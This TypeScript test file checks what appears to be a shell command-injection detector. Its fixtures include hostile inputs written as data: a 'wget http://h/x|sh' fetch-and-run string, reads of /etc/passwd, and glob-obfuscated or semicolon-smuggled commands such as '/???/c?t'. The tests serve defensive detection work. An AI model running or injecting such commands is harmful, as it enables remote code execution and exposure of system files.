import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { COMMANDS, commandName, mayNameCommand, stripVersion } from "./commands.js";
import { globMatch } from "./glob.js";
import { analyzeDashC, analyzeShell, globCommand } from "./unix.js";

/** What `globCommand` must return: the first command name, in set order, that the glob matches. */
function naive(base: string): string | null {
  for (const c of COMMANDS) if (c.length >= 2 && globMatch(base, c)) return c;
  return null;
}

describe("globCommand", () => {
  it("resolves globs that only a command name satisfies", () => {
    assert.equal(globCommand("c?t"), naive("c?t"));
    assert.notEqual(globCommand("c?t"), null);
    assert.equal(globCommand("wh*mi"), "whoami");
    assert.equal(globCommand("[w]hoami"), "whoami");
    assert.equal(globCommand("cB1*uqsI******N65lH0g_"), null);
  });

  it("answers as trying every command name in order would", () => {
    const names = [...COMMANDS];
    const unit = fc.oneof(
      fc.constantFrom("*", "?", "[", "]", "!", "^", "-", "[a-z]", "[!a]", "[]", "İ", "K"),
      fc.constantFrom(...names).map((n) => n.slice(0, 3)),
      fc.string({ maxLength: 2 }),
      fc.constantFrom(..."abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._"),
    );
    const pattern = fc.array(unit, { minLength: 1, maxLength: 8 }).map((a) => a.join(""));
    // A name mangled into a glob: some letters replaced by `?`, `*` or a bracket.
    const mangled = fc
      .tuple(
        fc.constantFrom(...names),
        fc.array(fc.nat(20), { maxLength: 3 }),
        fc.constantFrom("?", "*", "[a-z]"),
      )
      .map(([n, at, g]) => {
        let s = n;
        for (const i of at) if (i < s.length) s = s.slice(0, i) + g + s.slice(i + 1);
        return s;
      });
    fc.assert(
      fc.property(fc.oneof(pattern, mangled), (p) => globCommand(p) === naive(p)),
      { numRuns: 3000 },
    );
  });
});

describe("mayNameCommand", () => {
  const names = [...COMMANDS];
  const isCommand = (w: string) => COMMANDS.has(stripVersion(commandName(w)));

  it("rejects words no command starts like, and keeps command words", () => {
    assert.equal(isCommand("catalog"), false);
    assert.equal(mayNameCommand("zzpage", 0, 6), false);
    assert.equal(mayNameCommand("xq", 0, 2), false);
    assert.equal(mayNameCommand("/usr/bin/Python3.10", 0, 19), true);
    assert.equal(mayNameCommand("w.exe", 0, 5), true);
    assert.equal(mayNameCommand("dir/", 0, 4), false);
  });

  it("is true for every word that names a known command", () => {
    const word = fc
      .tuple(
        fc.constantFrom("", "/bin/", "/usr/local/bin/", "C:\\Windows\\", "./", "a/b\\"),
        fc.oneof(fc.constantFrom(...names), fc.string({ maxLength: 6 })),
        fc.boolean(),
        fc.constantFrom("", "3", ".10", "5.36", ".exe", ".EXE", ".bat", "2.7.exe"),
      )
      .map(([dir, n, upper, suffix]) => `${dir}${upper ? n.toUpperCase() : n}${suffix}`);
    fc.assert(
      fc.property(word, fc.string({ maxLength: 3 }), (w, pad) => {
        const v = `${pad}${w}${pad}`;
        if (isCommand(w)) assert.ok(mayNameCommand(v, pad.length, pad.length + w.length), w);
      }),
      { numRuns: 5000 },
    );
  });
});

describe("a shell's -c option and its command", () => {
  it("flags a command the analyzer knows after -c", () => {
    for (const v of ["-c id", "-c 'cat /etc/passwd'", '-c "wget http://h/x|sh"', "-lc uname", " -c  /bin/ls"])
      assert.notEqual(analyzeDashC(v), null, v);
  });
  it("leaves other tools' -c options alone", () => {
    for (const v of ["-c 5", "-c red", "-c en_US", "-cx id", "-c", "--c id"])
      assert.equal(analyzeDashC(v), null, v);
  });
});

describe("lone globs", () => {
  it("are no command alone, but are with an argument, a separator or a directory", () => {
    assert.equal(analyzeShell("a*b*c", "value"), null);
    assert.equal(analyzeShell("c*t", "value"), null);
    assert.notEqual(analyzeShell("c*t /etc/passwd", "value"), null);
    assert.notEqual(analyzeShell(";c*t x", "value"), null);
    assert.notEqual(analyzeShell("/???/c?t", "value"), null);
  });
});
